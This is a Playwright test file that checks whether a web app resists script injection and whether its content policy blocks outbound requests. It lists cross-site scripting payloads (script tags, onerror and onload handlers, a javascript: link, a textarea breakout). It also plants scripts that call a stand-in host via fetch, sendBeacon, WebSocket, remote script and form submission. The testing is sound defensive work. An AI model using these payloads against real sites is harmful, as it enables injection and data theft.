"""What is typed into the app runs nowhere: Chromium is told to draw it, and a script that ran would leave a mark."""

from __future__ import annotations

from playwright.sync_api import Browser, Page

from compliance import Rulebook
from compliance.teaching.drafting import starter
from tests.attacks.conftest import Target
from tests.browser.visitor import Visitor

MARK = "window.zqx=1"
TYPED = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg/onload={MARK}>",
    f"[x](javascript:{MARK})",
    f"</textarea><script>{MARK}</script>",
)
BOXES = {"/rules": "Search all rules", "/scenarios": "Search", "/resources": "Search"}
NEW = "const it = document.createElement"
PLANTED = {
    "an inline script": f"{NEW}('script'); it.textContent = '{MARK}'; at.append(it)",
    "a handler": f"at.innerHTML = '<img src=x onerror={MARK}>'",
    "a script of another host": f"{NEW}('script'); it.src = 'http://127.0.0.1:9/x.js'; at.append(it)",
    "a frame": f"{NEW}('iframe'); it.src = 'http://127.0.0.1:9/'; at.append(it)",
    "an image of another host": "const it = new Image(); it.src = 'http://127.0.0.1:9/x.png'; at.append(it)",
    "a request to another host": "fetch('http://127.0.0.1:9/').catch(() => 0)",
    "a beacon": "navigator.sendBeacon('http://127.0.0.1:9/', 'x')",
    "a socket": "try { new WebSocket('ws://127.0.0.1:9/') } catch (error) { 0 }",
    "a form": f"{NEW}('form'); it.action = 'http://127.0.0.1:9/'; at.append(it); it.submit()",
}


def test_what_is_typed_into_a_search_or_a_scenario_is_words(
    browser: Browser, target: Target, rulebook: Rulebook
) -> None:
    with browser.new_context() as context:
        visitor = Visitor.new(context, target.home, rulebook)
        for path, label in BOXES.items():
            visitor.open(path)
            box = visitor.page.get_by_label(label, exact=True)
            for typed in TYPED:
                visitor.tell(lambda box=box, typed=typed: (box.fill(typed[:80]), box.press("Enter")))
                assert not ran(visitor.page)
        visitor.open("/training", do="write")
        box = visitor.page.get_by_label("Your scenario, in YAML")
        for typed in TYPED:
            text = starter().replace("title:", f"title: {typed!r} #", 1)
            visitor.tell(lambda box=box, text=text: (box.fill(text), box.press("Control+Enter")))
            assert not ran(visitor.page)
        assert outside(visitor) == []


def test_a_script_that_got_into_a_page_can_neither_run_others_nor_speak_to_anybody(
    browser: Browser, target: Target, rulebook: Rulebook
) -> None:
    with browser.new_context() as context:
        visitor = Visitor.new(context, target.home, rulebook)
        for name, script in PLANTED.items():
            visitor.open()
            visitor.page.evaluate(f"() => {{ const at = document.body; {script} }}")
            visitor.page.wait_for_timeout(300)
            assert not ran(visitor.page), name
            assert visitor.page.url.startswith(target.home), name
        print(f"{len(PLANTED)} planted, {len(visitor.complaints)} refused by the policy")
        assert len(visitor.complaints) >= len(PLANTED) - 1


def ran(page: Page) -> bool:
    """Tell whether a script left its mark."""
    return bool(page.evaluate("() => window.zqx === 1"))


def outside(visitor: Visitor) -> list[str]:
    """Return the addresses of other hosts that were asked."""
    own = visitor.home.removeprefix("http")
    return [url for url in visitor.requested if own not in url and not url.startswith(("data:", "blob:"))]
